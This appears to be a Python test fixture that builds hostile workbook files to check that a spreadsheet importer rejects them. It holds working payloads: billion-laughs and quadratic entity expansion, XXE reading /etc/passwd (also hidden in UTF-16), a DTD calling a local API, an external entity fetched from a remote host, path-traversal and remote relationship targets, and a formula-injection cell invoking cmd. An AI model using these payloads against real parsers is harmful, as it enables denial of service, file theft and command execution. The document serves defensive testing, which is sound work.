"""Workbooks whose XML reaches out, swells, sinks or points nowhere."""

from __future__ import annotations

import random

from tests.attacks.hostile import MB, hostile
from tests.exports.workbook_parts import MAIN, OFFICE, RELATION, made

ONE = "<row><c><v>1</v></c></row>"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
READS = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ASKS = '<!DOCTYPE a SYSTEM "http://127.0.0.1:8080/api/v1/owner">'
PARAMETERS = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'


def laughs() -> bytes:
    return made("<row><c t='str'><v>&l9;</v></c></row>", head=LAUGHS)


def quadratic() -> bytes:
    head = f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]>'
    return made(f"<row><c t='str'><v>{'&x;' * 50_000}</v></c></row>", head=head)


def strings(inside: str, head: str = "") -> bytes:
    return made(ONE, strings=f'{head}<sst xmlns="{MAIN}">{inside}</sst>')


def utf_16(text: str) -> bytes:
    """A DTD that no search for its bytes finds."""
    return made(ONE, styles=text.encode("utf-16"))


def related(target: str, mode: str = "Internal") -> bytes:
    relation = RELATION.format(id="r", of=OFFICE, kind="worksheet", target=target)
    relation = relation.replace("/>", f' TargetMode="{mode}"/>')
    return made(ONE, relations=f"<Relationships>{relation}</Relationships>")


def attributes() -> bytes:
    many = " ".join(f"a{n}='1'" for n in range(MB // 2))
    return made(f"<row {many}/>")


def long_cell() -> bytes:
    letters = random.Random(5).randbytes(2 * MB).hex()
    return made(f"<row><c t='str'><v>{letters}</v></c></row>")


WORKBOOKS = (
    hostile("a billion laughs", laughs, "unsafe-xml"),
    hostile("an entity of 50 kB, 50,000 times", quadratic, "unsafe-xml"),
    hostile(
        "an entity that reads /etc/passwd",
        lambda: strings("<si><t>&x;</t></si>", READS),
        "unsafe-xml",
    ),
    hostile("a DTD that asks our own API", lambda: made(ONE, head=ASKS), "unsafe-xml"),
    hostile(
        "a parameter entity from elsewhere",
        lambda: made(ONE, workbook=f"{PARAMETERS}<workbook/>"),
        "unsafe-xml",
    ),
    hostile("a DTD in UTF-16", lambda: utf_16(READS), "unsafe-xml"),
    hostile(
        "a hundred thousand elements deep",
        lambda: made("<row>" * 100_000),
        "unsafe-xml",
    ),
    hostile(
        "half a million attributes",
        attributes,
        "too-large",
    ),
    hostile(
        "300,000 shared strings",
        lambda: strings("".join(f"<si><t>{n}</t></si>" for n in range(300_000))),
        "too-large",
    ),
    hostile(
        "a cell of 4 MB",
        long_cell,
        "too-large",
    ),
    hostile(
        "a row of number 2147483647", lambda: made('<row r="2147483647"/>'), "too-large"
    ),
    hostile(
        "a cell in a millionth column",
        lambda: made('<row><c r="ZZZ1"><v>1</v></c></row>'),
        "too-large",
    ),
    hostile(
        "200,000 rows, each as wide as may be",
        lambda: made(
            "".join(f'<row><c r="EZZ1"><v>{n}</v></c></row>' for n in range(200_000))
        ),
        "too-large",
    ),
    hostile(
        "cells that come twice and backwards",
        lambda: made('<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
        "truncated",
    ),
    hostile(
        "a string that isn't there",
        lambda: made('<row><c t="s"><v>9999999</v></c></row>'),
        "truncated",
    ),
    hostile(
        "formulas for whoever opens it",
        lambda: made(
            "<row><c t='str'><f>HYPERLINK(\"http://192.0.2.1\")</f><v>=cmd|' /C x'!A0"
            "</v></c></row>"
        ),
        "unknown-format",
    ),
    hostile(
        "200,000 styles",
        lambda: made(
            ONE,
            styles=f'<s xmlns="{MAIN}"><cellXfs>{"<xf/>" * 200_000}</cellXfs></s>',
        ),
        "too-large",
    ),
    hostile(
        "one sheet of a megabyte, shown 100,000 times",
        lambda: made(
            "".join(f"<row><c><v>{n}</v></c></row>" for n in range(30_000)),
            workbook=f'<workbook xmlns:r="{OFFICE}">'
            + "".join(f'<sheet name="{n}" r:id="r"/>' for n in range(100_000))
            + "</workbook>",
        ),
        "too-large",
    ),
    hostile(
        "a part outside the archive",
        lambda: related("../../../../../etc/passwd"),
        "truncated",
    ),
    hostile(
        "a part of another machine",
        lambda: related("http://192.0.2.1/a.xml", "External"),
        "truncated",
    ),
)
